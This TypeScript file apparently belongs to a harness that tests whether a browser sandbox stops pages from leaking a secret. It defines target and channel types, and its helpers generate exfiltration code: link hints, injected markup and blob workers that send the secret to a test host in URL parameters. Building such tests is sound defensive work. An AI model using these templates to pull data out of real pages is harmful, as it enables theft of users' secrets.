/** Where an attempt tries to send its secret. Each attempt has a port of its own. In the code of a channel it is called `U`. */
export interface Target {
  /** `http://host:port` */
  h: string;
  /** `https://host:port` */
  hs: string;
  /** `ws://host:port` */
  w: string;
  ip: string;
  host: string;
  port: number;
  /** What must not get out. */
  d: string;
  /** A name that nobody else looks up. */
  dns: string;
}

/** One way out of a page, as a compromised dependency or a crafted file could try it. */
export interface Channel {
  id: string;
  /** `any`: the page and every kind of worker. `worker`: workers only. */
  where: 'page' | 'any' | 'worker';
  /** The body of an async function that gets `U`. */
  code: string;
  /** Destroys the page, so it runs in a tab of its own. */
  nav?: boolean;
  /** Runs as if the user had just clicked. */
  gesture?: boolean;
  /** After all others: it takes a protection away. */
  last?: boolean;
  /** How it is seen. `hit`: something reached the port. `dns`: the browser's network log knows the name. `none`: cannot be seen here. */
  oracle?: 'hit' | 'dns' | 'none';
}

type Options = Partial<Omit<Channel, 'id' | 'code'>>;
export const page = (id: string, code: string, options: Options = {}): Channel => ({ id, where: 'page', code, ...options });
export const anywhere = (id: string, code: string, options: Options = {}): Channel => ({ id, where: 'any', code, ...options });
export const leaving = (id: string, code: string, options: Options = {}): Channel => ({
  id,
  where: 'page',
  nav: true,
  gesture: true,
  code,
  ...options,
});

// The code of a channel, for the common cases. What they are given is code too: it is read in the page, where U is known.

/** An element with properties, appended to `where`. */
export const element = (tag: string, properties: string, where = 'body'): string =>
  `const e=document.createElement('${tag}');Object.assign(e,{${properties}});document.${where}.append(e);`;

/** An element with attributes. */
export const withAttributes = (tag: string, attributes: string, where = 'body'): string =>
  `const e=document.createElement('${tag}');for(const [k,v] of Object.entries({${attributes}}))e.setAttribute(k,v);document.${where}.append(e);`;

/** Markup, as from a crafted cell. */
export const markup = (text: string): string => `const e=document.createElement('div');e.innerHTML=${text};document.body.append(e);`;

/** A `<link>` in the head. */
export const hint = (rel: string, more = '', path = 'x'): string => withAttributes('link', `rel:'${rel}',href:U.h+'/${path}?'+U.d,${more}`, 'head');

/** A worker from a blob. */
export const blobWorker = (body: string, options = ''): string =>
  `const b=URL.createObjectURL(new Blob([${body}],{type:'text/javascript'}));new Worker(b${options});`;
